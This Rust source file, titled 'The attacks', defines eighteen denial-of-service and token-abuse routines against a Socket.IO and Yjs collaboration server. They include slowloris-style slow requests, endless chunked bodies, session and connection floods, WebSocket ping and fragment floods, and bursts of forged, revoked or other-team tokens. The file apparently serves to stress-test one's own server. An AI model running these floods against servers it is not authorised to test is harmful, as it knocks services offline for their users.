//! The attacks.

use std::{
    collections::VecDeque,
    sync::{
        Arc,
        atomic::{AtomicI64, Ordering},
    },
    time::Duration,
};

use crate::{
    Target,
    sockets::{Socket, attempt, hold, repeat},
    wire::{self, BINARY, FRAGMENT, HOCUSPOCUS, PING, POLLING, TEXT, TEXT_BEGINS},
};

/// The name of an attack, its description, and what begins it.
type Attack = (&'static str, &'static str, fn(&Arc<Target>));

/// All attacks.
pub const ATTACKS: [Attack; 18] = [
    (
        "sessions",
        "100,000 sessions by polling, over two connections",
        sessions,
    ),
    ("bodies", "100 bodies that never end", bodies),
    (
        "slow",
        "3,000 requests whose line, headers or body come byte by byte",
        slow,
    ),
    (
        "silent",
        "10,000 connections that never show a token",
        silent,
    ),
    ("opens", "connections that are opened and closed", opens),
    (
        "attempts",
        "attempts to connect from 40 addresses, thousands at once",
        attempts,
    ),
    ("polls", "polls", polls),
    ("upgrades", "upgrades that do not end", upgrades),
    ("frames", "pings on a WebSocket", frames),
    ("fragments", "empty fragments of a message", fragments),
    (
        "namespaces",
        "1,000 namespaces on each connection",
        namespaces,
    ),
    (
        "cycles",
        "connects and disconnects of the namespace",
        cycles,
    ),
    ("tokens", "invalid tokens", tokens),
    ("revoked", "a token that was revoked", revoked),
    ("foreign", "a token of another team", foreign),
    (
        "y-websocket",
        "invalid tokens in the addresses of y-websocket",
        y_websocket,
    ),
    (
        "hocuspocus",
        "invalid tokens for 1,000 documents on each connection of Hocuspocus",
        hocuspocus,
    ),
    (
        "y-socket.io",
        "invalid tokens for 1,000 namespaces of y-socket.io",
        y_socket_io,
    ),
];

/// How many connections of an attack send as much as they can.
const SENDERS: usize = 20;
/// How many connections of an attack are opened again and again.
const OPENERS: usize = 64;
/// How many addresses of this machine attempts to connect come from, and how many of each are under way.
const SOURCES: u8 = 40;
const ATTEMPTS_AT_ONCE: usize = 200;
/// How many attempts to begin a session are made on a connection.
const ATTEMPTS: usize = 8;
/// How many requests or frames are sent at once.
const AT_ONCE: usize = 50;

fn sessions(target: &Arc<Target>) {
    let left = Arc::new(AtomicI64::new(100_000));
    let requests = POLLING.repeat(AT_ONCE);
    repeat(target, 2, move |target| {
        let mut socket = Socket::open(target)?;
        socket.flood(|| {
            let before = left.fetch_sub(AT_ONCE as i64, Ordering::Relaxed);
            (before > 0).then_some(requests.as_bytes())
        })?;
        // All were opened: the connection stays.
        std::thread::park();
        Ok(())
    });
}

fn bodies(target: &Arc<Target>) {
    let chunk = format!("2000\r\n{}\r\n", "a".repeat(0x2000));
    repeat(target, 100, move |target| {
        let mut socket = Socket::open(target)?;
        socket.send(POLLING)?;
        let answer = socket.answer("}")?;
        let sid = wire::sid(&answer).unwrap_or("x");
        socket.send(wire::post(sid, "transfer-encoding: chunked"))?;
        socket.flood(|| Some(chunk.as_bytes()))
    });
}

fn slow(target: &Arc<Target>) {
    let body = wire::post("x", "content-length: 4000000");
    for first in ["GET /", "GET / HTTP/1.1\r\nx-slow: ", &body] {
        hold(
            target,
            1_000,
            first,
            Some(("x", Duration::from_millis(300))),
        );
    }
}

fn silent(target: &Arc<Target>) {
    hold(target, 5_000, "", None);
    hold(target, 2_500, wire::upgrade(None), None);
    hold(target, 2_500, wire::upgrade_at(HOCUSPOCUS), None);
}

fn opens(target: &Arc<Target>) {
    let request = wire::upgrade(None);
    repeat(target, OPENERS, move |target| {
        Socket::open(target)?.send(&request)
    });
}

fn attempts(target: &Arc<Target>) {
    attempt(target, SOURCES, ATTEMPTS_AT_ONCE);
}

fn polls(target: &Arc<Target>) {
    let requests = wire::poll("AAAAAAAAAAAAAAAAAAAA").repeat(AT_ONCE);
    repeat(target, SENDERS, move |target| {
        Socket::open(target)?.flood(|| Some(requests.as_bytes()))
    });
}

fn upgrades(target: &Arc<Target>) {
    repeat(target, SENDERS, |target| {
        // So many are held that the next ones are refused as well.
        let mut held = VecDeque::new();
        loop {
            let mut polling = Socket::open(target)?;
            polling.send(POLLING)?;
            let answer = polling.answer("}")?;
            let mut beside = Socket::open(target)?;
            beside.send(wire::upgrade(wire::sid(&answer)))?;
            beside.send(wire::frames(TEXT, ["2probe"]))?;
            held.push_back((polling, beside));
            if held.len() > AT_ONCE {
                held.pop_front();
            }
        }
    });
}

/// Sends `first` on WebSockets, and then `bytes` without end.
fn flood_frames(target: &Arc<Target>, first: Vec<u8>, bytes: Vec<u8>) {
    repeat(target, SENDERS, move |target| {
        let mut socket = Socket::web_socket(target)?;
        socket.send(&first)?;
        socket.flood(|| Some(&bytes))
    });
}

fn frames(target: &Arc<Target>) {
    flood_frames(target, Vec::new(), wire::frames(PING, [""; 900]));
}

fn fragments(target: &Arc<Target>) {
    let first = wire::frames(TEXT_BEGINS, ["4"]);
    flood_frames(target, first, wire::frames(FRAGMENT, [""; 900]));
}

fn cycles(target: &Arc<Target>) {
    let packets = ["40{}", "41"].repeat(500);
    flood_frames(target, Vec::new(), wire::frames(TEXT, packets));
}

/// Sends what `packets` makes on WebSockets, each of which the server ends.
fn send_packets(target: &Arc<Target>, packets: fn(&Target) -> Vec<String>) {
    repeat(target, OPENERS, move |target| {
        let mut socket = Socket::web_socket(target)?;
        socket.send(wire::frames(TEXT, packets(target)))?;
        socket.end()
    });
}

fn namespaces(target: &Arc<Target>) {
    send_packets(target, |_| {
        (0..1_000).map(|n| format!("40/space-{n},")).collect()
    });
}

fn tokens(target: &Arc<Target>) {
    send_packets(target, |target| {
        let forged = (0..ATTEMPTS).map(|_| wire::forge(&target.forgeable));
        forged.map(|token| wire::connect(&token)).collect()
    });
}

fn revoked(target: &Arc<Target>) {
    send_packets(target, |target| {
        vec![wire::connect(&target.revoked); ATTEMPTS]
    });
}

fn foreign(target: &Arc<Target>) {
    repeat(target, OPENERS, |target| {
        let mut socket = Socket::web_socket(target)?;
        socket.send(wire::frames(TEXT, [wire::connect(&target.foreign)]))?;
        socket.answer("\"connection\"")?;
        let join = "421[\"join_room\",{\"room\":\"tea\"}]";
        socket.send(wire::frames(TEXT, [join]))?;
        socket.answer("431[").map(drop)
    });
}

fn y_websocket(target: &Arc<Target>) {
    repeat(target, OPENERS, |target| {
        let token = wire::forge(&target.forgeable);
        let mut socket = Socket::open(target)?;
        socket.send(wire::upgrade_at(&format!("/yjs/tea?token={token}")))?;
        socket.end()
    });
}

fn hocuspocus(target: &Arc<Target>) {
    repeat(target, OPENERS, |target| {
        let mut socket = Socket::open(target)?;
        socket.send(wire::upgrade_at(HOCUSPOCUS))?;
        socket.answer("\r\n\r\n")?;
        let token = wire::forge(&target.forgeable);
        let messages = (0..1_000).map(|n| wire::authentication(&format!("tea-{n}"), &token));
        socket.send(wire::frames(BINARY, messages))?;
        socket.end()
    });
}

fn y_socket_io(target: &Arc<Target>) {
    send_packets(target, |target| {
        let token = wire::forge(&target.forgeable);
        let packet = |n| format!("40/yjs|tea-{n},{{\"token\":\"{token}\"}}");
        (0..1_000).map(packet).collect()
    });
}
